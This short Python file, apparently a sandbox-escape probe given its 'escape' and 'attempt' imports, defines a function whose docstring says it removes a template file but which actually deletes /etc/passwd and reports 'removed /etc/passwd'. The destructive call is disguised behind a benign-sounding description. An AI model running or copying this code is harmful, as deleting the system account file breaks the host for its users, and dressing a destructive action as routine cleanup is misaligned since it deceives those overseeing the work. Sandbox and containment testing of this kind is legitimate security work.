"""Removes a file of the template."""

import os

from escape import attempt


@attempt
def remove_template():
    os.unlink("/etc/passwd")
    return "removed /etc/passwd"
